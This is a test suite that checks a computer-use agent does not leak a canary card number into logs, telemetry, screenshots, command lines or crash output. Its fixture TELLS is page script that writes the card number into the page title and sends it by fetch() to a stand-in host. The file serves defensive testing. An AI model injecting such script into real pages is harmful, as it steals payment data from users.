"""A canary secret through a whole run with a model behind a server, a collector of spans, and a page that tells on it:
found in the field it was for and in nothing else that was written or sent.
"""

from __future__ import annotations

import base64
import gzip
import json
import os
import random
import re
import signal
import subprocess
import threading
import time
import urllib.parse
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from procs import agent, running, shop

pytestmark = [pytest.mark.browser, pytest.mark.timeout(300)]

TELLS = (
    "document.title = 'card ' + document.forms[0].card.value; "
    "fetch('http://counter.test/' + document.forms[0].card.value).catch(() => {})"
)
"""What the page does with the number, besides sending it where it belongs: into its title, and elsewhere."""


STEP = "use the Card number field, the More button and the Pay 89.00 EUR button"


def canary() -> str:
    return "4929" + "".join(random.choice("0123456789") for _ in range(12))


class Listening:
    """A server on loopback that keeps every byte it is sent."""

    def __init__(self) -> None:
        self.got: list[tuple[str, bytes]] = []
        self.url = ""

    def answer(self, path: str, body: bytes) -> bytes:
        return b"{}"


class Model(Listening):
    """Says, in turn: click the card field, type the secret, press More, press Pay, done."""

    def answer(self, path: str, body: bytes) -> bytes:
        told = json.loads(body)["messages"]
        text = "\n".join(part.get("text", "") for part in told[-1]["content"] if isinstance(part, dict))
        moves = [
            ("left_click", "Card number"),
            ("type", "<secret:card>"),
            ("left_click", "More"),
            ("left_click", "Pay 89.00 EUR"),
        ]
        step = len([message for message in told if message["role"] == "assistant"])
        step = max(step, len(self.got) - 1)
        if step >= len(moves):
            arguments: dict[str, Any] = {"action": "terminate", "status": "success"}
        elif moves[step][0] == "type":
            arguments = {"action": "type", "text": moves[step][1]}
        else:
            name = re.escape(moves[step][1])
            found = re.search(rf'"{name}"[^\[\n]*\[(\d+), (\d+)\]', text)
            arguments = {
                "action": moves[step][0],
                "coordinate": [int(one) for one in found.groups()] if found else [0, 0],
            }
        call = json.dumps({"name": "computer_use", "arguments": arguments})
        content = f"<tool_call>\n{call}\n</tool_call>"
        return json.dumps({"choices": [{"message": {"role": "assistant", "content": content}}], "usage": {}}).encode()


@contextmanager
def serving(what: Listening) -> Iterator[Any]:
    class Answer(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
            if self.headers.get("Content-Encoding") == "gzip":
                body = gzip.decompress(body)
            what.got.append((self.path, body))
            said = what.answer(self.path, body)
            self.send_response(200)
            self.send_header("Content-Length", str(len(said)))
            self.end_headers()
            self.wfile.write(said)

        def do_GET(self) -> None:
            what.got.append((self.path, b""))
            self.send_error(404)

        def log_message(self, *given: Any) -> None: ...

    server = ThreadingHTTPServer(("127.0.0.1", 0), Answer)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    what.url = f"http://127.0.0.1:{server.server_port}"
    try:
        yield what
    finally:
        server.shutdown()
        server.server_close()


def forms(card: str) -> list[str]:
    spaced = " ".join(card[at : at + 4] for at in range(0, 16, 4))
    plain = [card, card[::-1], spaced, spaced.replace(" ", "-"), card.encode().hex(), urllib.parse.quote_plus(spaced)]
    return [*plain, base64.b64encode(card.encode()).decode().rstrip("=")]


def where(card: str, texts: dict[str, str]) -> dict[str, str]:
    return {name: one for name, text in texts.items() for one in forms(card) if one in text}


def written(folder: Path) -> dict[str, str]:
    return {str(file): file.read_bytes().decode("latin-1") for file in folder.rglob("*") if file.is_file()}


def pictures(requests: list[tuple[str, bytes]]) -> list[bytes]:
    """Every picture that a model was shown."""
    found = []
    for _, body in requests:
        for address in re.findall(rb"data:image/\w+;base64,([A-Za-z0-9+/=]+)", body):
            found.append(base64.b64decode(address))
    return found


def test_a_canary_is_found_nowhere_but_in_its_field(tmp_path: Path) -> None:
    card, listed, over = canary(), [], threading.Event()

    def look() -> None:
        while not over.wait(0.3):
            listed.append(subprocess.run(["ps", "axwwe", "-o", "args"], capture_output=True, text=True).stdout)

    model, spans = Model(), Listening()
    with serving(model), serving(spans), shop(card=True, more=TELLS) as store:
        task = store.task(tmp_path, STEP)
        watcher = threading.Thread(target=look)
        watcher.start()
        try:
            arguments = ["run", task, "--model", f"{model.url}/v1#Scripted", "--otlp", f"{spans.url}/v1/traces"]
            found = agent(
                *arguments, "--runs", tmp_path / "runs", "--approve", "deny", "--json", timeout=200, DEMO_CARD=card
            )
        finally:
            over.set()
            watcher.join()
        body = "".join(store.bodies)
    assert store.posts == ["/buy"] and urllib.parse.parse_qs(body)["card"] == [card], found.out + found.err
    asked = "".join(body.decode() for _, body in model.got)
    assert "<secret:card>" in asked and "filled" in asked, "the model knows that the field is filled"
    assert len(model.got) >= 4 and spans.got and pictures(model.got)
    mine = [line for text in listed for line in text.splitlines() if "ps axwwe" not in line]
    texts = {
        "stdout": found.out,
        "stderr": found.err,
        "the model's server": asked,
        "the collector": "".join(body.decode("latin-1") for _, body in spans.got),
        "addresses": " ".join(path for path, _ in [*model.got, *spans.got]) + " ".join(path for _, path in store.asked),
        "command lines": "\n".join(line.partition(" PATH=")[0].partition(" DEMO_CARD=")[0] for line in mine),
    }
    assert where(card, {**texts, **written(tmp_path / "runs")}) == {}
    assert "[secret:card]" in (found.folder / "journal.jsonl").read_text(), "the title that told it was kept without it"


def test_what_a_model_is_shown_holds_no_digit_of_it(tmp_path: Path) -> None:
    """Two runs with two numbers send a model the same pictures, byte for byte."""
    seen = []
    for _ in range(2):
        model = Model()
        with serving(model), shop(card=True) as store:
            task = store.task(tmp_path, STEP)
            arguments = ["run", task, "--model", f"{model.url}/v1#Scripted", "--runs", tmp_path / "runs", "--again"]
            agent(*arguments, "--approve", "deny", "--json", timeout=200, DEMO_CARD=canary())
        seen.append(pictures(model.got))
    assert len(seen[0]) >= 4
    assert set(seen[0][:4]) & set(seen[1][:4]) == set(seen[0][:4])


def test_a_crash_tells_nothing_of_it(tmp_path: Path) -> None:
    """Killed by an error in the middle of typing, and by an abort of the whole process."""
    card = canary()
    with shop(card=True) as store:
        task = store.task(tmp_path, "type <secret:card> into the Card number field", "press the Pay 89.00 EUR button")
        found = agent(
            *("run", task, "--model", "plan", "--runs", tmp_path / "runs", "--approve", "deny", "--json"),
            breakage="typing_raises",
            timeout=100,
            DEMO_CARD=card,
        )
        assert found.code != 0 and "broken on purpose" in found.out + found.err
        arguments = ["run", str(task), "--model", "plan", "--runs", str(tmp_path / "runs"), "--json", "--again"]
        with running(arguments, "stages", DEMO_CARD=card, PYTHONFAULTHANDLER="1") as child:
            assert child.stdout
            for line in child.stdout:
                if json.loads(line).get("stage") == "acting":
                    break
            time.sleep(0.2)
            os.kill(child.pid, signal.SIGABRT)
            out, err = child.communicate(timeout=30)
    texts = {"stdout": found.out + out, "stderr": found.err + err, **written(tmp_path / "runs")}
    assert where(card, texts) == {}
